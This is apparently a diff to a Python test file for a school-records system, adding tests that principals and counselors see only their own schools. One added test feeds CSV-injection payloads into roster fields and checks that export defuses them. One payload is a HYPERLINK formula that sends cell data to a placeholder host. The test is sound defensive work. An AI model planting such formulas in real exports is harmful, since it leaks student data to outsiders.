@@ -304,7 +304,9 @@ def test_a_counselor_sees_only_the_records_of_their_schools(two_schools, cat):
     assert [s for s, _ in records.schools(db, "t-tanaka")] == ["org-hv"]
     assert "class-bay5" not in {c for c, _ in records.classes(db, "t-tanaka")}
     assert "t-ortiz" not in {t for t, _ in records.teachers(db, actor="t-tanaka")}
-    # The administrator sees both schools.
+    # A district administrator sees both schools.
+    with db.conn:
+        db.execute("UPDATE people SET org_ids = 'org-hvsd' WHERE sourced_id = 'a-whitfield'")
     every = records.records(db, "a-whitfield", mods)
     assert len(every) == 25 + 2 * 3 and {r.school_id for r in every} == {"org-hv", "org-bay"}
     assert len(records.records(db, "a-whitfield", mods, RecordFilter(school_id="org-bay"))) == 6
@@ -341,8 +343,60 @@ def test_a_counselors_compliance_summary_covers_their_schools_only(two_schools, 
     assert mine.total.enrolled == 25
     with pytest.raises(PermissionError):
         compliance.compliance(db, "t-tanaka", mods, YEAR, "org-bay")
-    every = compliance.compliance(db, "a-whitfield", mods, YEAR)
+    every = compliance.compliance(db, SYSTEM, mods, YEAR)  # the district's view
     assert [(r.school_id, r.enrolled, r.completed) for r in every.schools] == [
         ("org-bay", 2, 1), ("org-hv", 25, mine.total.completed)]  # Yusuf did all three
     assert every.total.enrolled == 27 and every.total.completed == mine.total.completed + 1
     assert compliance.compliance(db, SYSTEM, mods, YEAR, "org-bay").total.enrolled == 2
+
+
+def test_csv_export_defuses_spreadsheet_formulas_and_reads_back_the_same(school, cat):
+    """A roster name like =HYPERLINK(...) must not become a live formula in a spreadsheet."""
+    hostile = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")": "given_name", "+1-555": "family_name",
+               "@SUM(A1)": "identifier", "-2+3": "given_name", "\t=cmd": "family_name"}
+    rows = records.records(school, "t-tanaka", cat.modules.values())
+    import dataclasses
+
+    rows = [dataclasses.replace(rows[i], **{field: text}) for i, (text, field) in enumerate(hostile.items())]
+    out = io.StringIO()
+    records.write_csv(rows, out)
+    import csv as _csv
+
+    cells = [cell for line in list(_csv.reader(io.StringIO(out.getvalue())))[1:] for cell in line]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")" in cells
+    assert records.read_csv(out.getvalue()) == rows
+
+
+def test_a_principal_sees_only_their_own_schools(two_schools, cat):
+    """Reported: a principal (OneRoster administrator of one school) saw every school."""
+    db, mods = two_schools, cat.modules.values()  # Dolores Whitfield: administrator, org-hv
+    assert access.counselor_school_ids(db, "a-whitfield") == ["org-hv"]
+    mine = records.records(db, "a-whitfield", mods)
+    assert {r.school_id for r in mine} == {"org-hv"} and len(mine) == 25
+    assert [s for s, _ in records.schools(db, "a-whitfield")] == ["org-hv"]
+    with pytest.raises(PermissionError, match="not one of your schools"):
+        records.records(db, "a-whitfield", mods, RecordFilter(school_id="org-bay"))
+    with pytest.raises(PermissionError, match="'s-bay0': not at one of your schools"):
+        records.student_history(db, "a-whitfield", "s-bay0")
+    with pytest.raises(PermissionError, match="not at one of your schools"):
+        classgrid.class_grid(db, "a-whitfield", "class-bay5")
+    access.require_class(db, "a-whitfield", "class-04")  # her own school's classes: may manage
+    summary = compliance.compliance(db, "a-whitfield", mods, YEAR)
+    assert [r.school_id for r in summary.schools] == ["org-hv"]
+    # The district's administrator (and the command line) see every school.
+    with db.conn:
+        db.execute("UPDATE people SET org_ids = 'org-hvsd' WHERE sourced_id = 'a-whitfield'")
+    assert access.counselor_school_ids(db, "a-whitfield") is None
+    assert {r.school_id for r in records.records(db, "a-whitfield", mods)} == {"org-hv", "org-bay"}
+    assert {r.school_id for r in records.records(db, access.SYSTEM, mods)} == {"org-hv", "org-bay"}
+
+
+def test_an_enrollment_naming_another_school_does_not_open_a_student_to_its_counselor(two_schools):
+    """Reported: an enrollment whose school disagrees with its class's school let a counselor
+    of one school see a student of another."""
+    db = two_schools
+    with db.conn:  # Zoe's enrollment in Bayside's class claims Harbor View as its school
+        db.execute("UPDATE enrollments SET school_id = 'org-hv' WHERE sourced_id = 'e-bay0'")
+    with pytest.raises(PermissionError, match="not at one of your schools"):
+        records.student_history(db, "t-tanaka", "s-bay0")
